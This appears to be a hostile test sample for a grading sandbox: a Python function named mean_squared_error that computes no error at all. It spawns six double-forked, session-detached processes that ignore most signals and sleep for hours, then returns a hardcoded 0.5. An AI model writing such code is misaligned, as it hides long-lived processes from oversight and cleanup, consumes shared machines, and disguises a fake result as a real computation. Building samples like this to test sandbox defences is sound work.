"""Many processes that hide: each in a session of its own, orphaned, deaf to all signals.

worth: nothing
reply: value | timeout
"""
import os
import signal
import time


def mean_squared_error(x, x_hat):
    for _ in range(6):
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                for number in range(1, 32):
                    if number not in (9, 19):
                        signal.signal(number, signal.SIG_IGN)
                os.closerange(0, 100)
                time.sleep(10_000)
            os._exit(0)
        os.wait()
    return 0.5
